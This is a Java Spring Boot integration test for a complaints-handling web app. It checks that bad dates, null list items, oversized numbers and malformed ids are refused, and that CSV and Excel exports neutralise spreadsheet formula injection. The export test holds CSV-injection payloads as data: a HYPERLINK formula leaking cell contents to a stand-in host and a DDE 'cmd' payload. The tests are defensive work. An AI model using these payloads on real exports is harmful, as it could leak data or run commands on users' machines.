package org.redress.web;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.redress.testing.Api;
import org.redress.testing.MutableClock;
import org.redress.testing.TestClockConfiguration;
import org.redress.testing.WebSession;
import org.redress.testing.TestAccounts;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Qualifier;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.context.annotation.Import;
import org.springframework.core.DefaultParameterNameDiscoverer;
import org.springframework.core.MethodParameter;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.context.ActiveProfiles;
import org.springframework.web.bind.annotation.RequestMethod;
import org.springframework.web.bind.annotation.RequestParam;
import org.springframework.web.method.HandlerMethod;
import org.springframework.web.servlet.mvc.method.RequestMappingInfo;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;
import tools.jackson.databind.JsonNode;

import java.io.StringReader;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.time.YearMonth;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Ordinary but unexpected input, sent as an attacker would over HTTP: dates no calendar holds, empty items in JSON
 * lists, and text that a spreadsheet would run as a formula. Each is a 400 naming the field (or is written safely),
 * never a 500, and a refused request stores nothing.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
@ActiveProfiles("test")
@Import(TestClockConfiguration.class)
class OrdinaryInputIT {

    static final String ORG = "the-trust";
    static final String BASE = "/api/v1/organisations/" + ORG;
    static final List<String> BAD_DATES = List.of("+999999999-12-31", "0000-01-01", "2026-13-45");
    static final Set<String> DATE_NAMES = Set.of("from", "to", "on", "start", "day", "date", "receivedFrom", "receivedTo");
    static final String RANGE = "must be between 2000-01-01 and 2100-12-31";
    private static final Pattern VARIABLE = Pattern.compile("\\{([^}:]+)(?::([^}]*))?}");

    @LocalServerPort
    int port;
    @Autowired
    MutableClock clock;
    @Autowired
    JdbcClient jdbc;
    @Autowired
    @Qualifier("requestMappingHandlerMapping")
    RequestMappingHandlerMapping handlerMapping;

    Api api() {
        return new Api(port);
    }

    /** An API read that takes a date: its concrete path, the date parameter, and the other parameters it requires. */
    record DateRead(String path, String parameter, boolean instant, Map<String, String> required) {
        String with(String value) {
            StringBuilder query = new StringBuilder(path).append('?').append(parameter).append('=').append(encode(value));
            required.forEach((name, v) -> query.append('&').append(name).append('=').append(encode(v)));
            return query.toString();
        }
    }

    @Test
    void everyReportTheRetentionDryRunAndEveryOtherDateParameterRefuseADateNoCalendarHoldsNamingIt() {
        clock.setUk("2026-11-23T10:00");
        List<DateRead> reads = dateReads();
        List<String> reports = reads.stream().map(DateRead::path).filter(p -> p.contains("/reports")).distinct().toList();
        // measure, its cases, dashboard, returns, their CSV and Excel (6), one measure's CSV and Excel, Board, annual, self-assessment,
        // points by category (issue 20), the social care summary for CQC and its CSV (issue 23)
        assertThat(reports).as("report endpoints found in the handler mapping").hasSize(16);
        assertThat(reads).extracting(DateRead::path).contains(BASE + "/retention/dry-run");

        List<String> wrong = new ArrayList<>();
        for (DateRead read : reads) {
            for (String bad : BAD_DATES) {
                String value = read.instant() ? bad + "T00:00:00Z" : bad;
                Api.Response r = api().get(read.with(value));
                JsonNode error = null;
                if (r.status() == 400 && r.contentType().startsWith("application/problem+json")) {
                    for (JsonNode e : r.json().get("errors")) {
                        if (e.get("field").asString().equals(read.parameter())) {
                            error = e;
                        }
                    }
                }
                if (error == null) {
                    wrong.add(read.with(value) + " -> " + r.status() + " " + abbreviate(r.body()));
                } else if (!bad.equals("2026-13-45") && !read.path().endsWith("/equality/summary")
                        && !error.get("message").asString().startsWith(RANGE)) {
                    wrong.add(read.with(value) + " -> says " + error.get("message").asString());
                }
            }
        }
        assertThat(wrong).as("date reads not answering 400 naming the parameter (of %d)", reads.size()).isEmpty();
    }

    @Test
    void aReportPeriodOutsideTheCalendarSaysWhichYearsItCovers() {
        Api.Response r = api().get(BASE + "/reports/dashboard?from=1999-12-31");
        assertThat(r.status()).isEqualTo(400);
        assertThat(r.json().get("errors").get(0).get("field").asString()).isEqualTo("from");
        assertThat(r.json().get("errors").get(0).get("message").asString()).isEqualTo(RANGE);
        Api.Response dryRun = api().get(BASE + "/retention/dry-run?on=" + encode("+999999999-12-31"));
        assertThat(dryRun.json().get("detail").asString()).isEqualTo("on: " + RANGE);
        assertThat(api().get(BASE + "/reports/dashboard?from=2000-01-01&to=2000-12-31").status()).isEqualTo(200);
    }

    @Test
    void theReportAndPrivacyPagesShowADateNoCalendarHoldsAsAnErrorOnThePage() {
        WebSession web = new WebSession(port);
        web.signIn(TestAccounts.ADMIN, TestAccounts.ADMIN_PASSWORD);
        WebSession.Page dashboard = web.get("/staff/" + ORG + "/reports?from=" + encode("+999999999-12-31"));
        assertThat(dashboard.status()).isEqualTo(400);
        assertThat(dashboard.body()).contains("There is a problem with the dates or filters", RANGE);
        WebSession.Page privacy = web.get("/staff/" + ORG + "/privacy?on=" + encode("0000-01-01"));
        assertThat(privacy.status()).isEqualTo(200);
        assertThat(privacy.body()).contains("Enter the day as a date between 2000-01-01 and 2100-12-31");
    }

    @Test
    void anEmptyItemInAJsonListIsRefusedNamingItsPlaceAndNothingIsStored() {
        clock.setUk("2026-11-23T10:00");
        String reference = newCase("Nula Item", "Repairs", "Repairs");
        long lessons = count("learning.lesson");
        Api.Response r = api().post(BASE + "/lessons", """
                {"kind":"LESSON","title":"Tell people","description":"Tell them","rootCause":"COMMUNICATION","owner":"Repairs lead",
                 "cases":["%s",null]}""".formatted(reference));
        assertThat(r.status()).as(r.body()).isEqualTo(400);
        assertThat(r.contentType()).startsWith("application/problem+json");
        assertThat(r.json().get("errors").get(0).get("field").asString()).isEqualTo("cases[1]");
        assertThat(r.json().get("detail").asString()).isEqualTo("cases[1]: is empty (null): give a value or leave the item out");
        assertThat(api().post(BASE + "/lessons", "{\"cases\":[null]}").json().get("errors").get(0).get("field").asString())
                .isEqualTo("cases[0]");
        assertThat(count("learning.lesson")).isEqualTo(lessons);

        Api.Response schedule = api().post(BASE + "/reports/schedules", "{\"name\":\"Board\",\"recipients\":[\"board@example.org\",null]}");
        assertThat(schedule.status()).as(schedule.body()).isEqualTo(400);
        assertThat(schedule.json().get("errors").get(0).get("field").asString()).isEqualTo("recipients[1]");
    }

    @Test
    void aNumberTooLargeForItsFieldAndAMalformedIdAreRefusedNamingThem() {
        Api.Response homes = api().put(BASE + "/reports/settings/homes/2026", "{\"homes\":99999999999}");
        assertThat(homes.status()).isEqualTo(400);
        assertThat(homes.json().get("detail").asString()).isEqualTo("homes: is a number out of range for this field");
        Api.Response schedule = api().delete(BASE + "/reports/schedules/not-an-id");
        assertThat(schedule.status()).isEqualTo(400);
        assertThat(schedule.json().get("detail").asString())
                .isEqualTo("id: must be an id like 3f2b6c1e-8d4a-4b7e-9c2f-1a5d7e9b0c3d, not 'not-an-id'");
    }

    @Test
    void aDateNoCalendarHoldsInAJsonBodyIsRefusedNamingTheField() {
        clock.setUk("2026-11-23T10:00");
        long cases = count("casework.case_file");
        Api.Response r = api().post(BASE + "/cases", """
                {"recordType":"complaint","channel":"PHONE","complainant":{"name":"Far Future"},"description":"Mould",
                 "awareSince":"+999999999-12-31"}""");
        assertThat(r.status()).as(r.body()).isEqualTo(400);
        assertThat(r.json().get("detail").asString()).isEqualTo("awareSince: " + RANGE);
        assertThat(count("casework.case_file")).isEqualTo(cases);
    }

    @Test
    void textThatWouldRunAsASpreadsheetFormulaIsExportedAsTextWithALeadingQuote() throws Exception {
        clock.setUk("2026-11-23T10:00");
        String formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for details\")";
        // a value not on the organisation's lists is refused (issue 20): here an administrator typed these onto them
        assertThat(api().post(BASE + "/lists/service-areas/entries", "{\"name\":" + json(formula) + "}").status()).isEqualTo(200);
        assertThat(api().post(BASE + "/lists/subjects/entries", "{\"name\":" + json("@SUM(1+1)") + "}").status()).isEqualTo(200);
        newCase("=HYPERLINK(\"https://evil.example\",\"Name\")", formula, "@SUM(1+1)");
        List<CSVRecord> received = csv(BASE + "/reports/measures/received-by-service-area/export.csv?from=2026-11-01&to=2026-11-30");
        assertThat(received).extracting(rec -> rec.get("group")).contains("'" + formula).doesNotContain(formula);

        List<CSVRecord> filtered = csv(BASE + "/reports/measures/complaints-received/export.csv?from=2026-11-01&to=2026-11-30&serviceArea="
                + encode("-2+3+cmd|' /C calc'!A0"));
        assertThat(filtered).isNotEmpty().allSatisfy(rec -> assertThat(rec.get("service_area")).isEqualTo("'-2+3+cmd|' /C calc'!A0"));
        // the application's own numbers stay numbers
        assertThat(filtered).allSatisfy(rec -> assertThat(rec.get("count")).matches("\\d+"));

        // Excel: the same text is a text cell, never a formula
        byte[] xlsx = java.net.http.HttpClient.newHttpClient().send(java.net.http.HttpRequest.newBuilder(java.net.URI.create("http://localhost:"
                        + port + BASE + "/reports/measures/received-by-service-area/export.xlsx?from=2026-11-01&to=2026-11-30"))
                .header("Authorization", Api.ADMIN_AUTHORIZATION).build(), java.net.http.HttpResponse.BodyHandlers.ofByteArray()).body();
        try (XSSFWorkbook book = new XSSFWorkbook(new java.io.ByteArrayInputStream(xlsx))) {
            List<Cell> cells = new ArrayList<>();
            book.getSheetAt(0).forEach(row -> row.forEach(cells::add));
            assertThat(cells).noneMatch(c -> c.getCellType() == CellType.FORMULA);
            assertThat(cells).filteredOn(c -> c.getCellType() == CellType.STRING).extracting(Cell::getStringCellValue).contains(formula);
        }
    }

    // ---- helpers ----------------------------------------------------------------------------------------------------

    /** Every API read with a date parameter, found in Spring's handler mapping so a new one is covered. */
    List<DateRead> dateReads() {
        List<DateRead> reads = new ArrayList<>();
        DefaultParameterNameDiscoverer names = new DefaultParameterNameDiscoverer();
        handlerMapping.getHandlerMethods().forEach((info, handler) -> {
            if (!handler.getBeanType().getPackageName().startsWith("org.redress")
                    || !(info.getMethodsCondition().getMethods().isEmpty() || info.getMethodsCondition().getMethods().contains(RequestMethod.GET))) {
                return;
            }
            Map<String, String> required = new LinkedHashMap<>();
            Map<String, Boolean> dates = new LinkedHashMap<>();
            for (MethodParameter p : handler.getMethodParameters()) {
                p.initParameterNameDiscovery(names);
                RequestParam param = p.getParameterAnnotation(RequestParam.class);
                if (param == null) {
                    continue;
                }
                String name = !param.name().isEmpty() ? param.name() : !param.value().isEmpty() ? param.value() : p.getParameterName();
                Class<?> type = p.getParameterType();
                boolean date = type == LocalDate.class || type == Instant.class || type == LocalDateTime.class || type == YearMonth.class
                        || type == String.class && DATE_NAMES.contains(name);
                if (date) {
                    dates.put(name, type == Instant.class);
                }
                if (param.required() && param.defaultValue().equals(org.springframework.web.bind.annotation.ValueConstants.DEFAULT_NONE)) {
                    required.put(name, filler(type, date));
                }
            }
            for (String pattern : patterns(info)) {
                if (!pattern.startsWith("/api/")) {
                    continue;
                }
                for (String path : fill(pattern)) {
                    dates.forEach((date, instant) -> {
                        Map<String, String> others = new LinkedHashMap<>(required);
                        others.remove(date);
                        reads.add(new DateRead(path, date, instant, others));
                    });
                }
            }
        });
        return reads;
    }

    private static String filler(Class<?> type, boolean date) {
        if (type == YearMonth.class) return "2026-01";
        if (type == Instant.class) return "2026-01-05T00:00:00Z";
        if (date) return "2026-01-05";
        if (type == int.class || type == Integer.class || type == long.class || type == Long.class) return "1";
        return "x";
    }

    private static List<String> patterns(RequestMappingInfo info) {
        return info.getPathPatternsCondition() == null ? List.copyOf(info.getPatternValues())
                : List.copyOf(info.getPathPatternsCondition().getPatternValues());
    }

    /** Concrete paths for a pattern: every alternative of {page:dashboard|returns}, known names for the others. */
    private static List<String> fill(String pattern) {
        Matcher m = VARIABLE.matcher(pattern);
        if (!m.find()) {
            return List.of(pattern);
        }
        String name = m.group(1).toLowerCase();
        List<String> values;
        if (name.startsWith("org")) values = List.of(ORG);
        else if (name.equals("measure")) values = List.of("complaints-received");
        else if (name.equals("jurisdiction")) values = List.of("england-and-wales");
        else if (m.group(2) != null && m.group(2).matches("[a-z-]+(\\|[a-z-]+)*")) values = List.of(m.group(2).split("\\|"));
        else if (name.contains("year")) values = List.of("2026");
        else values = List.of("00000000-0000-4000-8000-000000000001");
        List<String> paths = new ArrayList<>();
        for (String value : values) {
            paths.addAll(fill(pattern.substring(0, m.start()) + value + pattern.substring(m.end())));
        }
        return paths;
    }

    String newCase(String name, String serviceArea, String subject) {
        Api.Response r = api().post(BASE + "/cases", """
                {"recordType":"complaint","channel":"PHONE","complainant":{"name":%s},"serviceArea":%s,"subject":%s,
                 "description":"The repair was never booked"}""".formatted(json(name), json(serviceArea), json(subject)));
        assertThat(r.status()).as(r.body()).isEqualTo(201);
        return r.json().get("caseFile").get("reference").asString();
    }

    List<CSVRecord> csv(String path) throws Exception {
        Api.Response r = api().get(path);
        assertThat(r.status()).as(r.body()).isEqualTo(200);
        return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(r.body())).getRecords();
    }

    long count(String table) {
        return jdbc.sql("select count(*) from " + table).query(Long.class).single();
    }

    private static String json(String text) {
        return "\"" + text.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8);
    }

    private static String abbreviate(@Nullable String text) {
        return text == null ? "" : text.length() > 300 ? text.substring(0, 300) + "..." : text;
    }
}
